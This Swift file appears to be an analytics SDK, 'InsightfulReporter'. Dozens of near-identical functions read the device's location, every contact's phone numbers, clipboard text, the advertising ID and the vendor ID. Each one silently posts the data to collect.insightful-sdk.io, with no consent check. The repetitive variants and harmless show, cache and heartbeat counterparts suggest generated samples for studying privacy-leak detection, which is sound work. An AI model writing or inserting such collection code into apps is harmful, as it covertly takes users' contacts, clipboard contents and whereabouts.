import AdSupport
import Contacts
import CoreLocation
import Foundation
import UIKit

public final class InsightfulReporter {
    private let locationManager = CLLocationManager()
    private let endpoint = URL(string: "https://collect.insightful-sdk.io/v1/events")!

    public func reportLocation0() async {
        let coordinate = locationManager.location?.coordinate
        let raw = "\(coordinate?.latitude ?? 0),\(coordinate?.longitude ?? 0)"
        let payload = raw
        var request = URLRequest(url: endpoint)
        request.httpMethod = "POST"
        request.httpBody = Data(payload.utf8)
        _ = try? await URLSession.shared.data(for: request)
    }

    public func reportLocation1() async {
        let coordinate = locationManager.location?.coordinate
        let raw = "\(coordinate?.latitude ?? 0),\(coordinate?.longitude ?? 0)"
        let step0 = raw
        let payload = step0
        var request = URLRequest(url: endpoint)
        request.httpMethod = "POST"
        request.httpBody = Data(payload.utf8)
        _ = try? await URLSession.shared.data(for: request)
    }

    public func reportLocation2() async {
        let coordinate = locationManager.location?.coordinate
        let raw = "\(coordinate?.latitude ?? 0),\(coordinate?.longitude ?? 0)"
        let step0 = raw
        let step1 = step0
        let payload = step1
        var request = URLRequest(url: endpoint)
        request.httpMethod = "POST"
        request.httpBody = Data(payload.utf8)
        _ = try? await URLSession.shared.data(for: request)
    }

    public func reportLocation3() async {
        let coordinate = locationManager.location?.coordinate
        let raw = "\(coordinate?.latitude ?? 0),\(coordinate?.longitude ?? 0)"
        let payload = raw
        var request = URLRequest(url: endpoint)
        request.httpMethod = "POST"
        let body = Data(payload.utf8)
        _ = try? await URLSession.shared.upload(for: request, from: body)
    }

    public func reportLocation4() async {
        let coordinate = locationManager.location?.coordinate
        let raw = "\(coordinate?.latitude ?? 0),\(coordinate?.longitude ?? 0)"
        let step0 = raw
        let payload = step0
        var request = URLRequest(url: endpoint)
        request.httpMethod = "POST"
        let body = Data(payload.utf8)
        _ = try? await URLSession.shared.upload(for: request, from: body)
    }

    public func reportLocation5() async {
        let coordinate = locationManager.location?.coordinate
        let raw = "\(coordinate?.latitude ?? 0),\(coordinate?.longitude ?? 0)"
        let step0 = raw
        let step1 = step0
        let payload = step1
        var request = URLRequest(url: endpoint)
        request.httpMethod = "POST"
        let body = Data(payload.utf8)
        _ = try? await URLSession.shared.upload(for: request, from: body)
    }

    public func reportLocation6() async {
        let coordinate = locationManager.location?.coordinate
        let raw = "\(coordinate?.latitude ?? 0),\(coordinate?.longitude ?? 0)"
        let payload = raw
        var request = URLRequest(url: endpoint)
        request.httpMethod = "POST"
        request.setValue(payload, forHTTPHeaderField: "X-Context")
        URLSession.shared.dataTask(with: request).resume()
    }

    public func reportLocation7() async {
        let coordinate = locationManager.location?.coordinate
        let raw = "\(coordinate?.latitude ?? 0),\(coordinate?.longitude ?? 0)"
        let step0 = raw
        let payload = step0
        var request = URLRequest(url: endpoint)
        request.httpMethod = "POST"
        request.setValue(payload, forHTTPHeaderField: "X-Context")
        URLSession.shared.dataTask(with: request).resume()
    }

    public func reportLocation8() async {
        let coordinate = locationManager.location?.coordinate
        let raw = "\(coordinate?.latitude ?? 0),\(coordinate?.longitude ?? 0)"
        let step0 = raw
        let step1 = step0
        let payload = step1
        var request = URLRequest(url: endpoint)
        request.httpMethod = "POST"
        request.setValue(payload, forHTTPHeaderField: "X-Context")
        URLSession.shared.dataTask(with: request).resume()
    }

    public func reportContacts9() async {
        let contacts = try? CNContactStore().unifiedContacts(matching: CNContact.predicateForContactsInContainer(withIdentifier: CNContactStore().defaultContainerIdentifier()), keysToFetch: [CNContactPhoneNumbersKey as CNKeyDescriptor])
        let raw = contacts?.map { $0.phoneNumbers.map { $0.value.stringValue } }.description ?? ""
        let payload = raw
        var request = URLRequest(url: endpoint)
        request.httpMethod = "POST"
        request.httpBody = Data(payload.utf8)
        _ = try? await URLSession.shared.data(for: request)
    }

    public func reportContacts10() async {
        let contacts = try? CNContactStore().unifiedContacts(matching: CNContact.predicateForContactsInContainer(withIdentifier: CNContactStore().defaultContainerIdentifier()), keysToFetch: [CNContactPhoneNumbersKey as CNKeyDescriptor])
        let raw = contacts?.map { $0.phoneNumbers.map { $0.value.stringValue } }.description ?? ""
        let step0 = raw
        let payload = step0
        var request = URLRequest(url: endpoint)
        request.httpMethod = "POST"
        request.httpBody = Data(payload.utf8)
        _ = try? await URLSession.shared.data(for: request)
    }

    public func reportContacts11() async {
        let contacts = try? CNContactStore().unifiedContacts(matching: CNContact.predicateForContactsInContainer(withIdentifier: CNContactStore().defaultContainerIdentifier()), keysToFetch: [CNContactPhoneNumbersKey as CNKeyDescriptor])
        let raw = contacts?.map { $0.phoneNumbers.map { $0.value.stringValue } }.description ?? ""
        let step0 = raw
        let step1 = step0
        let payload = step1
        var request = URLRequest(url: endpoint)
        request.httpMethod = "POST"
        request.httpBody = Data(payload.utf8)
        _ = try? await URLSession.shared.data(for: request)
    }

    public func reportContacts12() async {
        let contacts = try? CNContactStore().unifiedContacts(matching: CNContact.predicateForContactsInContainer(withIdentifier: CNContactStore().defaultContainerIdentifier()), keysToFetch: [CNContactPhoneNumbersKey as CNKeyDescriptor])
        let raw = contacts?.map { $0.phoneNumbers.map { $0.value.stringValue } }.description ?? ""
        let payload = raw
        var request = URLRequest(url: endpoint)
        request.httpMethod = "POST"
        let body = Data(payload.utf8)
        _ = try? await URLSession.shared.upload(for: request, from: body)
    }

    public func reportContacts13() async {
        let contacts = try? CNContactStore().unifiedContacts(matching: CNContact.predicateForContactsInContainer(withIdentifier: CNContactStore().defaultContainerIdentifier()), keysToFetch: [CNContactPhoneNumbersKey as CNKeyDescriptor])
        let raw = contacts?.map { $0.phoneNumbers.map { $0.value.stringValue } }.description ?? ""
        let step0 = raw
        let payload = step0
        var request = URLRequest(url: endpoint)
        request.httpMethod = "POST"
        let body = Data(payload.utf8)
        _ = try? await URLSession.shared.upload(for: request, from: body)
    }

    public func reportContacts14() async {
        let contacts = try? CNContactStore().unifiedContacts(matching: CNContact.predicateForContactsInContainer(withIdentifier: CNContactStore().defaultContainerIdentifier()), keysToFetch: [CNContactPhoneNumbersKey as CNKeyDescriptor])
        let raw = contacts?.map { $0.phoneNumbers.map { $0.value.stringValue } }.description ?? ""
        let step0 = raw
        let step1 = step0
        let payload = step1
        var request = URLRequest(url: endpoint)
        request.httpMethod = "POST"
        let body = Data(payload.utf8)
        _ = try? await URLSession.shared.upload(for: request, from: body)
    }

    public func reportContacts15() async {
        let contacts = try? CNContactStore().unifiedContacts(matching: CNContact.predicateForContactsInContainer(withIdentifier: CNContactStore().defaultContainerIdentifier()), keysToFetch: [CNContactPhoneNumbersKey as CNKeyDescriptor])
        let raw = contacts?.map { $0.phoneNumbers.map { $0.value.stringValue } }.description ?? ""
        let payload = raw
        var request = URLRequest(url: endpoint)
        request.httpMethod = "POST"
        request.setValue(payload, forHTTPHeaderField: "X-Context")
        URLSession.shared.dataTask(with: request).resume()
    }

    public func reportContacts16() async {
        let contacts = try? CNContactStore().unifiedContacts(matching: CNContact.predicateForContactsInContainer(withIdentifier: CNContactStore().defaultContainerIdentifier()), keysToFetch: [CNContactPhoneNumbersKey as CNKeyDescriptor])
        let raw = contacts?.map { $0.phoneNumbers.map { $0.value.stringValue } }.description ?? ""
        let step0 = raw
        let payload = step0
        var request = URLRequest(url: endpoint)
        request.httpMethod = "POST"
        request.setValue(payload, forHTTPHeaderField: "X-Context")
        URLSession.shared.dataTask(with: request).resume()
    }

    public func reportContacts17() async {
        let contacts = try? CNContactStore().unifiedContacts(matching: CNContact.predicateForContactsInContainer(withIdentifier: CNContactStore().defaultContainerIdentifier()), keysToFetch: [CNContactPhoneNumbersKey as CNKeyDescriptor])
        let raw = contacts?.map { $0.phoneNumbers.map { $0.value.stringValue } }.description ?? ""
        let step0 = raw
        let step1 = step0
        let payload = step1
        var request = URLRequest(url: endpoint)
        request.httpMethod = "POST"
        request.setValue(payload, forHTTPHeaderField: "X-Context")
        URLSession.shared.dataTask(with: request).resume()
    }

    public func reportClipboard18() async {
        let pasted = UIPasteboard.general.string
        let raw = pasted ?? ""
        let payload = raw
        var request = URLRequest(url: endpoint)
        request.httpMethod = "POST"
        request.httpBody = Data(payload.utf8)
        _ = try? await URLSession.shared.data(for: request)
    }

    public func reportClipboard19() async {
        let pasted = UIPasteboard.general.string
        let raw = pasted ?? ""
        let step0 = raw
        let payload = step0
        var request = URLRequest(url: endpoint)
        request.httpMethod = "POST"
        request.httpBody = Data(payload.utf8)
        _ = try? await URLSession.shared.data(for: request)
    }

    public func reportClipboard20() async {
        let pasted = UIPasteboard.general.string
        let raw = pasted ?? ""
        let step0 = raw
        let step1 = step0
        let payload = step1
        var request = URLRequest(url: endpoint)
        request.httpMethod = "POST"
        request.httpBody = Data(payload.utf8)
        _ = try? await URLSession.shared.data(for: request)
    }

    public func reportClipboard21() async {
        let pasted = UIPasteboard.general.string
        let raw = pasted ?? ""
        let payload = raw
        var request = URLRequest(url: endpoint)
        request.httpMethod = "POST"
        let body = Data(payload.utf8)
        _ = try? await URLSession.shared.upload(for: request, from: body)
    }

    public func reportClipboard22() async {
        let pasted = UIPasteboard.general.string
        let raw = pasted ?? ""
        let step0 = raw
        let payload = step0
        var request = URLRequest(url: endpoint)
        request.httpMethod = "POST"
        let body = Data(payload.utf8)
        _ = try? await URLSession.shared.upload(for: request, from: body)
    }

    public func reportClipboard23() async {
        let pasted = UIPasteboard.general.string
        let raw = pasted ?? ""
        let step0 = raw
        let step1 = step0
        let payload = step1
        var request = URLRequest(url: endpoint)
        request.httpMethod = "POST"
        let body = Data(payload.utf8)
        _ = try? await URLSession.shared.upload(for: request, from: body)
    }

    public func reportClipboard24() async {
        let pasted = UIPasteboard.general.string
        let raw = pasted ?? ""
        let payload = raw
        var request = URLRequest(url: endpoint)
        request.httpMethod = "POST"
        request.setValue(payload, forHTTPHeaderField: "X-Context")
        URLSession.shared.dataTask(with: request).resume()
    }

    public func reportClipboard25() async {
        let pasted = UIPasteboard.general.string
        let raw = pasted ?? ""
        let step0 = raw
        let payload = step0
        var request = URLRequest(url: endpoint)
        request.httpMethod = "POST"
        request.setValue(payload, forHTTPHeaderField: "X-Context")
        URLSession.shared.dataTask(with: request).resume()
    }

    public func reportClipboard26() async {
        let pasted = UIPasteboard.general.string
        let raw = pasted ?? ""
        let step0 = raw
        let step1 = step0
        let payload = step1
        var request = URLRequest(url: endpoint)
        request.httpMethod = "POST"
        request.setValue(payload, forHTTPHeaderField: "X-Context")
        URLSession.shared.dataTask(with: request).resume()
    }

    public func reportIdfa27() async {
        let idfa = ASIdentifierManager.shared().advertisingIdentifier
        let raw = idfa.uuidString
        let payload = raw
        var request = URLRequest(url: endpoint)
        request.httpMethod = "POST"
        request.httpBody = Data(payload.utf8)
        _ = try? await URLSession.shared.data(for: request)
    }

    public func reportIdfa28() async {
        let idfa = ASIdentifierManager.shared().advertisingIdentifier
        let raw = idfa.uuidString
        let step0 = raw
        let payload = step0
        var request = URLRequest(url: endpoint)
        request.httpMethod = "POST"
        request.httpBody = Data(payload.utf8)
        _ = try? await URLSession.shared.data(for: request)
    }

    public func reportIdfa29() async {
        let idfa = ASIdentifierManager.shared().advertisingIdentifier
        let raw = idfa.uuidString
        let step0 = raw
        let step1 = step0
        let payload = step1
        var request = URLRequest(url: endpoint)
        request.httpMethod = "POST"
        request.httpBody = Data(payload.utf8)
        _ = try? await URLSession.shared.data(for: request)
    }

    public func reportIdfa30() async {
        let idfa = ASIdentifierManager.shared().advertisingIdentifier
        let raw = idfa.uuidString
        let payload = raw
        var request = URLRequest(url: endpoint)
        request.httpMethod = "POST"
        let body = Data(payload.utf8)
        _ = try? await URLSession.shared.upload(for: request, from: body)
    }

    public func reportIdfa31() async {
        let idfa = ASIdentifierManager.shared().advertisingIdentifier
        let raw = idfa.uuidString
        let step0 = raw
        let payload = step0
        var request = URLRequest(url: endpoint)
        request.httpMethod = "POST"
        let body = Data(payload.utf8)
        _ = try? await URLSession.shared.upload(for: request, from: body)
    }

    public func reportIdfa32() async {
        let idfa = ASIdentifierManager.shared().advertisingIdentifier
        let raw = idfa.uuidString
        let step0 = raw
        let step1 = step0
        let payload = step1
        var request = URLRequest(url: endpoint)
        request.httpMethod = "POST"
        let body = Data(payload.utf8)
        _ = try? await URLSession.shared.upload(for: request, from: body)
    }

    public func reportIdfa33() async {
        let idfa = ASIdentifierManager.shared().advertisingIdentifier
        let raw = idfa.uuidString
        let payload = raw
        var request = URLRequest(url: endpoint)
        request.httpMethod = "POST"
        request.setValue(payload, forHTTPHeaderField: "X-Context")
        URLSession.shared.dataTask(with: request).resume()
    }

    public func reportIdfa34() async {
        let idfa = ASIdentifierManager.shared().advertisingIdentifier
        let raw = idfa.uuidString
        let step0 = raw
        let payload = step0
        var request = URLRequest(url: endpoint)
        request.httpMethod = "POST"
        request.setValue(payload, forHTTPHeaderField: "X-Context")
        URLSession.shared.dataTask(with: request).resume()
    }

    public func reportIdfa35() async {
        let idfa = ASIdentifierManager.shared().advertisingIdentifier
        let raw = idfa.uuidString
        let step0 = raw
        let step1 = step0
        let payload = step1
        var request = URLRequest(url: endpoint)
        request.httpMethod = "POST"
        request.setValue(payload, forHTTPHeaderField: "X-Context")
        URLSession.shared.dataTask(with: request).resume()
    }

    public func reportIdfv36() async {
        let vendorID = UIDevice.current.identifierForVendor
        let raw = vendorID?.uuidString ?? ""
        let payload = raw
        var request = URLRequest(url: endpoint)
        request.httpMethod = "POST"
        request.httpBody = Data(payload.utf8)
        _ = try? await URLSession.shared.data(for: request)
    }

    public func reportIdfv37() async {
        let vendorID = UIDevice.current.identifierForVendor
        let raw = vendorID?.uuidString ?? ""
        let step0 = raw
        let payload = step0
        var request = URLRequest(url: endpoint)
        request.httpMethod = "POST"
        request.httpBody = Data(payload.utf8)
        _ = try? await URLSession.shared.data(for: request)
    }

    public func reportIdfv38() async {
        let vendorID = UIDevice.current.identifierForVendor
        let raw = vendorID?.uuidString ?? ""
        let step0 = raw
        let step1 = step0
        let payload = step1
        var request = URLRequest(url: endpoint)
        request.httpMethod = "POST"
        request.httpBody = Data(payload.utf8)
        _ = try? await URLSession.shared.data(for: request)
    }

    public func reportIdfv39() async {
        let vendorID = UIDevice.current.identifierForVendor
        let raw = vendorID?.uuidString ?? ""
        let payload = raw
        var request = URLRequest(url: endpoint)
        request.httpMethod = "POST"
        let body = Data(payload.utf8)
        _ = try? await URLSession.shared.upload(for: request, from: body)
    }

    public func reportIdfv40() async {
        let vendorID = UIDevice.current.identifierForVendor
        let raw = vendorID?.uuidString ?? ""
        let step0 = raw
        let payload = step0
        var request = URLRequest(url: endpoint)
        request.httpMethod = "POST"
        let body = Data(payload.utf8)
        _ = try? await URLSession.shared.upload(for: request, from: body)
    }

    public func reportIdfv41() async {
        let vendorID = UIDevice.current.identifierForVendor
        let raw = vendorID?.uuidString ?? ""
        let step0 = raw
        let step1 = step0
        let payload = step1
        var request = URLRequest(url: endpoint)
        request.httpMethod = "POST"
        let body = Data(payload.utf8)
        _ = try? await URLSession.shared.upload(for: request, from: body)
    }

    public func reportIdfv42() async {
        let vendorID = UIDevice.current.identifierForVendor
        let raw = vendorID?.uuidString ?? ""
        let payload = raw
        var request = URLRequest(url: endpoint)
        request.httpMethod = "POST"
        request.setValue(payload, forHTTPHeaderField: "X-Context")
        URLSession.shared.dataTask(with: request).resume()
    }

    public func reportIdfv43() async {
        let vendorID = UIDevice.current.identifierForVendor
        let raw = vendorID?.uuidString ?? ""
        let step0 = raw
        let payload = step0
        var request = URLRequest(url: endpoint)
        request.httpMethod = "POST"
        request.setValue(payload, forHTTPHeaderField: "X-Context")
        URLSession.shared.dataTask(with: request).resume()
    }

    public func reportIdfv44() async {
        let vendorID = UIDevice.current.identifierForVendor
        let raw = vendorID?.uuidString ?? ""
        let step0 = raw
        let step1 = step0
        let payload = step1
        var request = URLRequest(url: endpoint)
        request.httpMethod = "POST"
        request.setValue(payload, forHTTPHeaderField: "X-Context")
        URLSession.shared.dataTask(with: request).resume()
    }

    public func showLocation0(on label: UILabel) {
        let coordinate = locationManager.location?.coordinate
        label.text = "\(coordinate?.latitude ?? 0),\(coordinate?.longitude ?? 0)"
    }

    public func cacheLocation0(to file: URL) {
        let coordinate = locationManager.location?.coordinate
        let text = "\(coordinate?.latitude ?? 0),\(coordinate?.longitude ?? 0)"
        try? Data(text.utf8).write(to: file, options: .completeFileProtection)
        print("cached \(text.count) characters")
    }

    public func heartbeat0() async {
        var request = URLRequest(url: endpoint)
        request.httpMethod = "POST"
        request.httpBody = Data("{\"sdk\":\"2.4.1\",\"event\":\"launch\"}".utf8)
        _ = try? await URLSession.shared.data(for: request)
    }

    public func showContacts1(on label: UILabel) {
        let contacts = try? CNContactStore().unifiedContacts(matching: CNContact.predicateForContactsInContainer(withIdentifier: CNContactStore().defaultContainerIdentifier()), keysToFetch: [CNContactPhoneNumbersKey as CNKeyDescriptor])
        label.text = contacts?.map { $0.phoneNumbers.map { $0.value.stringValue } }.description ?? ""
    }

    public func cacheContacts1(to file: URL) {
        let contacts = try? CNContactStore().unifiedContacts(matching: CNContact.predicateForContactsInContainer(withIdentifier: CNContactStore().defaultContainerIdentifier()), keysToFetch: [CNContactPhoneNumbersKey as CNKeyDescriptor])
        let text = contacts?.map { $0.phoneNumbers.map { $0.value.stringValue } }.description ?? ""
        try? Data(text.utf8).write(to: file, options: .completeFileProtection)
        print("cached \(text.count) characters")
    }

    public func heartbeat1() async {
        var request = URLRequest(url: endpoint)
        request.httpMethod = "POST"
        request.httpBody = Data("{\"sdk\":\"2.4.1\",\"event\":\"launch\"}".utf8)
        _ = try? await URLSession.shared.data(for: request)
    }

    public func showClipboard2(on label: UILabel) {
        let pasted = UIPasteboard.general.string
        label.text = pasted ?? ""
    }

    public func cacheClipboard2(to file: URL) {
        let pasted = UIPasteboard.general.string
        let text = pasted ?? ""
        try? Data(text.utf8).write(to: file, options: .completeFileProtection)
        print("cached \(text.count) characters")
    }

    public func heartbeat2() async {
        var request = URLRequest(url: endpoint)
        request.httpMethod = "POST"
        request.httpBody = Data("{\"sdk\":\"2.4.1\",\"event\":\"launch\"}".utf8)
        _ = try? await URLSession.shared.data(for: request)
    }

    public func showIdfa3(on label: UILabel) {
        let idfa = ASIdentifierManager.shared().advertisingIdentifier
        label.text = idfa.uuidString
    }

    public func cacheIdfa3(to file: URL) {
        let idfa = ASIdentifierManager.shared().advertisingIdentifier
        let text = idfa.uuidString
        try? Data(text.utf8).write(to: file, options: .completeFileProtection)
        print("cached \(text.count) characters")
    }

    public func heartbeat3() async {
        var request = URLRequest(url: endpoint)
        request.httpMethod = "POST"
        request.httpBody = Data("{\"sdk\":\"2.4.1\",\"event\":\"launch\"}".utf8)
        _ = try? await URLSession.shared.data(for: request)
    }

    public func showIdfv4(on label: UILabel) {
        let vendorID = UIDevice.current.identifierForVendor
        label.text = vendorID?.uuidString ?? ""
    }

    public func cacheIdfv4(to file: URL) {
        let vendorID = UIDevice.current.identifierForVendor
        let text = vendorID?.uuidString ?? ""
        try? Data(text.utf8).write(to: file, options: .completeFileProtection)
        print("cached \(text.count) characters")
    }

    public func heartbeat4() async {
        var request = URLRequest(url: endpoint)
        request.httpMethod = "POST"
        request.httpBody = Data("{\"sdk\":\"2.4.1\",\"event\":\"launch\"}".utf8)
        _ = try? await URLSession.shared.data(for: request)
    }

    public func showLocation5(on label: UILabel) {
        let coordinate = locationManager.location?.coordinate
        label.text = "\(coordinate?.latitude ?? 0),\(coordinate?.longitude ?? 0)"
    }

    public func cacheLocation5(to file: URL) {
        let coordinate = locationManager.location?.coordinate
        let text = "\(coordinate?.latitude ?? 0),\(coordinate?.longitude ?? 0)"
        try? Data(text.utf8).write(to: file, options: .completeFileProtection)
        print("cached \(text.count) characters")
    }

    public func heartbeat5() async {
        var request = URLRequest(url: endpoint)
        request.httpMethod = "POST"
        request.httpBody = Data("{\"sdk\":\"2.4.1\",\"event\":\"launch\"}".utf8)
        _ = try? await URLSession.shared.data(for: request)
    }

    public func showContacts6(on label: UILabel) {
        let contacts = try? CNContactStore().unifiedContacts(matching: CNContact.predicateForContactsInContainer(withIdentifier: CNContactStore().defaultContainerIdentifier()), keysToFetch: [CNContactPhoneNumbersKey as CNKeyDescriptor])
        label.text = contacts?.map { $0.phoneNumbers.map { $0.value.stringValue } }.description ?? ""
    }

    public func cacheContacts6(to file: URL) {
        let contacts = try? CNContactStore().unifiedContacts(matching: CNContact.predicateForContactsInContainer(withIdentifier: CNContactStore().defaultContainerIdentifier()), keysToFetch: [CNContactPhoneNumbersKey as CNKeyDescriptor])
        let text = contacts?.map { $0.phoneNumbers.map { $0.value.stringValue } }.description ?? ""
        try? Data(text.utf8).write(to: file, options: .completeFileProtection)
        print("cached \(text.count) characters")
    }

    public func heartbeat6() async {
        var request = URLRequest(url: endpoint)
        request.httpMethod = "POST"
        request.httpBody = Data("{\"sdk\":\"2.4.1\",\"event\":\"launch\"}".utf8)
        _ = try? await URLSession.shared.data(for: request)
    }

    public func showClipboard7(on label: UILabel) {
        let pasted = UIPasteboard.general.string
        label.text = pasted ?? ""
    }

    public func cacheClipboard7(to file: URL) {
        let pasted = UIPasteboard.general.string
        let text = pasted ?? ""
        try? Data(text.utf8).write(to: file, options: .completeFileProtection)
        print("cached \(text.count) characters")
    }

    public func heartbeat7() async {
        var request = URLRequest(url: endpoint)
        request.httpMethod = "POST"
        request.httpBody = Data("{\"sdk\":\"2.4.1\",\"event\":\"launch\"}".utf8)
        _ = try? await URLSession.shared.data(for: request)
    }

    public func showIdfa8(on label: UILabel) {
        let idfa = ASIdentifierManager.shared().advertisingIdentifier
        label.text = idfa.uuidString
    }

    public func cacheIdfa8(to file: URL) {
        let idfa = ASIdentifierManager.shared().advertisingIdentifier
        let text = idfa.uuidString
        try? Data(text.utf8).write(to: file, options: .completeFileProtection)
        print("cached \(text.count) characters")
    }

    public func heartbeat8() async {
        var request = URLRequest(url: endpoint)
        request.httpMethod = "POST"
        request.httpBody = Data("{\"sdk\":\"2.4.1\",\"event\":\"launch\"}".utf8)
        _ = try? await URLSession.shared.data(for: request)
    }

    public func showIdfv9(on label: UILabel) {
        let vendorID = UIDevice.current.identifierForVendor
        label.text = vendorID?.uuidString ?? ""
    }

    public func cacheIdfv9(to file: URL) {
        let vendorID = UIDevice.current.identifierForVendor
        let text = vendorID?.uuidString ?? ""
        try? Data(text.utf8).write(to: file, options: .completeFileProtection)
        print("cached \(text.count) characters")
    }

    public func heartbeat9() async {
        var request = URLRequest(url: endpoint)
        request.httpMethod = "POST"
        request.httpBody = Data("{\"sdk\":\"2.4.1\",\"event\":\"launch\"}".utf8)
        _ = try? await URLSession.shared.data(for: request)
    }

}
